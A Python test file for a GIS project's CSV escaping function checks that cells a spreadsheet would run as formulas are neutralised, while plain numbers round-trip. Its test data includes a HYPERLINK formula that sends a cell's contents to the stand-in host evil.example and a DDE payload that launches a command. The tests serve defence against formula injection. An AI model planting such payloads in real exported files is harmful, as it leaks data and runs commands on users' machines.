"""Formula injection (issue 22 B): every CSV cell a spreadsheet would run is escaped."""

from __future__ import annotations

import csv
import io

import pytest

from gis.csvsafe import safe_cell

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-", "'-"),
        # numbers cannot be formulas: coordinates and phone prefixes round-trip
        ("-3.5", "-3.5"),
        ("+86", "+86"),
        ("1e-3", "1e-3"),
        ("-1.5E+3", "-1.5E+3"),
        ("垃圾 = 堆放", "垃圾 = 堆放"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_formula_cells_are_escaped(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_a_csv_row_reads_back_as_text() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell(EVIL), safe_cell("-121.4")])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + EVIL, "-121.4"]
